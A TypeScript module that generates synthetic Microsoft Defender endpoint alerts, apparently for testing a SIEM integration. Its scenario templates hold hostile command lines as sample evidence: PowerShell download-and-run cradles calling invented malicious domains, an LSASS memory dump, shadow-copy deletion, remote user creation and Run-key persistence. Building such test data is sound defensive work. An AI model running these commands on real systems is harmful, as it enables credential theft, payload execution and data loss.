// The realistic values the generator draws from: kinds of alerts as MDE raises them, with the
// evidence each kind carries. Titles, categories and sources follow Microsoft's field mapping page
// and the SIEM API samples; the payload's exact vocabulary is not documented, so values are plausible,
// not authoritative.
import type { Random } from "./random.js";

export type Severity = "Informational" | "Low" | "Medium" | "High";

/** Evidence fields one detection of a scenario fills; everything else stays "" (or null). */
export type Evidence = Partial<
  Record<
    | "FileName"
    | "FilePath"
    | "Sha1"
    | "Sha256"
    | "Md5"
    | "CommandLine"
    | "IpAddress"
    | "Url"
    | "IocName"
    | "IocValue"
    | "CreatorIocName"
    | "CreatorIocValue"
    | "ThreatCategory"
    | "ThreatFamily"
    | "ThreatName"
    | "RemediationAction",
    string
  >
> & { RemediationIsSuccess?: boolean | null; WasExecutingWhileDetected?: boolean | null };

export interface Scenario {
  source: string;
  category: string;
  title: string;
  severities: readonly Severity[];
  description: string;
  /** The detection rule; EDR rules have one, antivirus detections do not. */
  ioaDefinitionId: string;
  actor: string;
  /** Whether the detection names the signed-in user (behavioural detections do). */
  withUser: boolean;
  /** `user` is the alert's user, so that a path under the Users folder names the same person. */
  evidence(rng: Random, file: FileSample, user: string): Evidence;
}

export interface FileSample {
  sha1: string;
  sha256: string;
  md5: string;
}

export function fileSample(rng: Random): FileSample {
  return { sha1: rng.hex(40), sha256: rng.hex(64), md5: rng.hex(32) };
}

export const USERS = [
  "liz.bean",
  "jay.hardee",
  "pat.ross",
  "mo.chen",
  "ana.silva",
  "raj.patel",
  "kim.larsen",
  "svc_backup",
  "administrator",
] as const;

export const SYSTEM32 = "C:\\Windows\\System32";
const POWERSHELL_DIR = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0";

const DOWNLOAD_DIRS = [
  "C:\\Users\\{user}\\Downloads",
  "C:\\Users\\{user}\\AppData\\Local\\Temp",
  "C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
  "C:\\ProgramData\\{rand}",
  "C:\\Windows\\Temp",
  "C:\\Users\\Public\\Documents",
];

export const MALICIOUS_DOMAINS = [
  "down.esales360.cn",
  "update-check.servicesync.xyz",
  "cdn.officeupdates-secure.com",
  "login.microsoftonIine-verify.net",
  "files.sharepoint-docs.top",
  "c2.tempuri-relay.org",
];

export function dropDir(rng: Random, user: string): string {
  return rng.pick(DOWNLOAD_DIRS).replace("{user}", user).replace("{rand}", rng.hex(8));
}

export function publicIp(rng: Random): string {
  // Avoids private and reserved ranges so the address looks like a real remote peer.
  const first = rng.pick([23, 45, 51, 62, 77, 91, 103, 109, 176, 185, 193, 203, 218]);
  return `${first}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
}

function encodedCommand(rng: Random): string {
  const script = rng.pick([
    "IEX (New-Object Net.WebClient).DownloadString('http://{d}/a.ps1')",
    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{b}'));IEX (New-Object IO.StreamReader($s)).ReadToEnd()",
    "Invoke-WebRequest -Uri https://{d}/p.bin -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe",
  ]);
  const text = script
    .replace("{d}", rng.pick(MALICIOUS_DOMAINS))
    .replace("{b}", rng.bytes(24).toString("base64"));
  return Buffer.from(text, "utf16le").toString("base64");
}

interface Threat {
  name: string;
  family: string;
  category: string;
  title: string;
  severity: Severity;
  alertCategory: string;
  files: readonly string[];
}

const THREATS: readonly Threat[] = [
  {
    name: "HackTool:Win32/Mikatz!dha",
    family: "Mikatz",
    category: "HackTool",
    title: "'Mikatz' hacktool was detected",
    severity: "High",
    alertCategory: "Malware",
    files: ["mimikatz.exe", "mimidrv.sys", "kiwi.exe"],
  },
  {
    name: "Trojan:Win32/Emotet.RT!MTB",
    family: "Emotet",
    category: "Trojan",
    title: "'Emotet' malware was detected",
    severity: "High",
    alertCategory: "Malware",
    files: ["invoice_0921.doc.exe", "scan_2041.exe", "rundll_helper.dll"],
  },
  {
    name: "Ransom:Win32/WannaCrypt.A!rsm",
    family: "WannaCrypt",
    category: "Ransomware",
    title: "'WannaCrypt' ransomware was detected",
    severity: "High",
    alertCategory: "Ransomware",
    files: ["tasksche.exe", "@WanaDecryptor@.exe", "mssecsvc.exe"],
  },
  {
    name: "Backdoor:Win32/Cobaltstrike!MSR",
    family: "Cobaltstrike",
    category: "Backdoor",
    title: "'Cobaltstrike' backdoor was detected",
    severity: "High",
    alertCategory: "CommandAndControl",
    files: ["beacon.dll", "artifact.exe", "svchost_x64.exe"],
  },
  {
    name: "PUA:Win32/Presenoker",
    family: "Presenoker",
    category: "PUA",
    title: "'Presenoker' unwanted software was detected",
    severity: "Low",
    alertCategory: "UnwantedSoftware",
    files: ["setup_free_converter.exe", "bundle_installer.exe"],
  },
  {
    name: "TrojanDownloader:O97M/Donoff.SS!MTB",
    family: "Donoff",
    category: "TrojanDownloader",
    title: "'Donoff' malware was detected",
    severity: "Medium",
    alertCategory: "Malware",
    files: ["Payment_Details.docm", "Order-77812.xlsm"],
  },
];

function antivirus(threat: Threat): Scenario {
  return {
    source: "Antivirus",
    category: threat.alertCategory,
    title: threat.title,
    severities: [threat.severity],
    description:
      "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected devices.",
    ioaDefinitionId: "",
    actor: "",
    withUser: false,
    evidence(rng, file, user) {
      const remediated = rng.pick([true, true, true, false, null]);
      return {
        FileName: rng.pick(threat.files),
        FilePath: dropDir(rng, user),
        Sha1: file.sha1,
        Sha256: file.sha256,
        Md5: file.md5,
        ThreatName: threat.name,
        ThreatFamily: threat.family,
        ThreatCategory: threat.category,
        RemediationAction: remediated === null ? "" : rng.pick(["quarantine", "remove", "clean"]),
        RemediationIsSuccess: remediated,
        WasExecutingWhileDetected: rng.pick([false, false, true, null]),
      };
    },
  };
}

export const SCENARIOS: readonly Scenario[] = [
  ...THREATS.map(antivirus),
  {
    source: "EDR",
    category: "Execution",
    title: "Suspicious PowerShell command line",
    severities: ["Medium", "High"],
    description:
      "A suspicious PowerShell activity was observed on the device. This behavior is often used by attackers to download and run malicious payloads.",
    ioaDefinitionId: "7f1c3609-a3ff-40e2-995b-c01770161d5a",
    actor: "",
    withUser: true,
    evidence: (rng, file) => ({
      FileName: "powershell.exe",
      FilePath: POWERSHELL_DIR,
      Sha1: file.sha1,
      Sha256: file.sha256,
      CommandLine: `"powershell.exe" -NoP -NonI -W Hidden -Enc ${encodedCommand(rng)}`,
    }),
  },
  {
    source: "EDR",
    category: "CredentialAccess",
    title: "Suspicious access to LSASS service",
    severities: ["High"],
    description:
      "A process accessed the memory of the Local Security Authority Subsystem Service (LSASS), possibly to obtain credentials.",
    ioaDefinitionId: "1e97a4a1-0d1d-4b0b-a13c-3b42ab1a6a2f",
    actor: "",
    withUser: true,
    evidence: (rng, file) => ({
      FileName: "rundll32.exe",
      FilePath: SYSTEM32,
      Sha1: file.sha1,
      Sha256: file.sha256,
      CommandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${rng.int(500, 900)} C:\\Users\\Public\\${rng.hex(6)}.dmp full`,
    }),
  },
  {
    source: "EDR",
    category: "CommandAndControl",
    title: "Connection to a known malicious domain",
    severities: ["Medium"],
    description:
      "A process on the device connected to a domain associated with command-and-control activity.",
    ioaDefinitionId: "b20af1d2-5990-4672-87f1-acc2a8ff7725",
    actor: "",
    withUser: true,
    evidence: (rng, file) => ({
      FileName: rng.pick(["rundll32.exe", "svchost.exe", "regsvr32.exe"]),
      FilePath: SYSTEM32,
      Sha1: file.sha1,
      IpAddress: publicIp(rng),
      Url: rng.pick(MALICIOUS_DOMAINS),
    }),
  },
  {
    source: "EDR",
    category: "LateralMovement",
    title: "Suspicious service launched remotely with PsExec",
    severities: ["Medium", "High"],
    description:
      "A service was created and started remotely, a common way to move laterally between devices.",
    ioaDefinitionId: "3c2d5f8e-94b1-4a60-8f3e-6e0b2a1c7d44",
    actor: "",
    withUser: true,
    evidence: (rng, file) => ({
      FileName: "PSEXESVC.exe",
      FilePath: "C:\\Windows",
      Sha1: file.sha1,
      Sha256: file.sha256,
      CommandLine: `C:\\Windows\\PSEXESVC.exe -accepteula cmd /c "net user svc_${rng.hex(4)} /add"`,
      IpAddress: `10.${rng.int(0, 40)}.${rng.int(0, 255)}.${rng.int(2, 250)}`,
    }),
  },
  {
    source: "EDR",
    category: "Ransomware",
    title: "Ransomware behavior detected in the file system",
    severities: ["High"],
    description:
      "A process renamed and encrypted many files in a short time, a pattern typical of ransomware.",
    ioaDefinitionId: "9a1f0e3b-2c7d-4e5f-8a6b-1d2c3e4f5a6b",
    actor: "",
    withUser: true,
    evidence: (rng, file, user) => ({
      FileName: `${rng.hex(8)}.exe`,
      FilePath: dropDir(rng, user),
      Sha1: file.sha1,
      Sha256: file.sha256,
      Md5: file.md5,
      CommandLine: "vssadmin.exe Delete Shadows /All /Quiet",
    }),
  },
  {
    source: "EDR",
    category: "Persistence",
    title: "Anomaly detected in ASEP registry",
    severities: ["Low", "Medium"],
    description: "A process registered a new auto-start entry, which attackers use to survive reboots.",
    ioaDefinitionId: "5d6c2b1a-8e7f-4a3b-9c0d-2e1f3a4b5c6d",
    actor: "",
    withUser: true,
    evidence: (rng, file) => ({
      FileName: "reg.exe",
      FilePath: SYSTEM32,
      Sha1: file.sha1,
      CommandLine: `reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater${rng.int(1, 9)} /d "C:\\ProgramData\\${rng.hex(6)}\\upd.exe" /f`,
    }),
  },
  {
    source: "EDR",
    category: "Discovery",
    title: "Suspicious account discovery",
    severities: ["Informational", "Low"],
    description:
      "Commands that enumerate domain users and groups were run, as attackers do to plan their next steps.",
    ioaDefinitionId: "0b7e6d5c-4a3f-4e2d-9b1c-8a7f6e5d4c3b",
    actor: "",
    withUser: true,
    evidence: (rng, file) => ({
      FileName: "net.exe",
      FilePath: SYSTEM32,
      Sha1: file.sha1,
      CommandLine: rng.pick([
        'net group "Domain Admins" /domain',
        "net user /domain",
        "whoami /all",
        "nltest /domain_trusts",
      ]),
    }),
  },
  {
    source: "CustomTI",
    category: "SuspiciousActivity",
    title: "A file matching a custom indicator was observed",
    severities: ["Medium"],
    description:
      "A file whose hash matches an indicator defined by your organization was observed on the device.",
    ioaDefinitionId: "",
    actor: "",
    withUser: false,
    evidence: (rng, file, user) => ({
      FileName: `${rng.pick(["tool", "helper", "agent", "patch"])}_${rng.int(10, 99)}.exe`,
      FilePath: dropDir(rng, user),
      Sha1: file.sha1,
      Sha256: file.sha256,
      IocName: "FileSha1",
      IocValue: file.sha1,
      CreatorIocName: "FileSha1",
      CreatorIocValue: file.sha1,
    }),
  },
  {
    source: "SmartScreen",
    category: "InitialAccess",
    title: "A user accessed a site blocked by SmartScreen",
    severities: ["Low", "Informational"],
    description: "Microsoft Defender SmartScreen warned the user about a potentially malicious site.",
    ioaDefinitionId: "",
    actor: "",
    withUser: true,
    evidence: (rng) => ({
      FileName: "msedge.exe",
      FilePath: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
      Url: `https://${rng.pick(MALICIOUS_DOMAINS)}/${rng.hex(10)}`,
      IpAddress: publicIp(rng),
    }),
  },
  {
    source: "EDR",
    category: "SuspiciousActivity",
    title: "STRONTIUM activity group detected",
    severities: ["High"],
    description: "Activity associated with the STRONTIUM activity group was observed on the device.",
    ioaDefinitionId: "e2a4c6d8-1f3b-4d5e-a7c9-0b2d4f6a8c1e",
    actor: "STRONTIUM",
    withUser: true,
    evidence: (rng, file, user) => ({
      FileName: rng.pick(["xagent.exe", "sedreco.dll"]),
      FilePath: dropDir(rng, user),
      Sha1: file.sha1,
      Sha256: file.sha256,
      Md5: file.md5,
      IpAddress: publicIp(rng),
    }),
  },
];

export const DOMAINS = [
  "contoso.com",
  "fabrikam.com",
  "adatum.com",
  "woodgrove.com",
  "northwind.local",
] as const;

export const DEVICE_TAGS = ["", "", "", "Finance", "Kiosk", "Lab"] as const;
export const CLOUD_TAGS = ["", "", "VIP", "Pilot", "Pilot, VIP", "Tier0"] as const;

export const MACHINE_NAME_PATTERNS = [
  "desktop-{a7}",
  "laptop-{a7}",
  "ws-fin-{n3}",
  "ws-hr-{n3}",
  "srv-sql-{n2}",
  "srv-dc-{n2}",
  "srv-web-{n2}",
] as const;

const ALNUM = [..."abcdefghijklmnopqrstuvwxyz0123456789"];

export function machineName(rng: Random): string {
  return rng
    .pick(MACHINE_NAME_PATTERNS)
    .replace("{a7}", () => Array.from({ length: 7 }, () => rng.pick(ALNUM)).join(""))
    .replace("{n3}", () => String(rng.int(1, 250)).padStart(3, "0"))
    .replace("{n2}", () => String(rng.int(1, 12)).padStart(2, "0"));
}
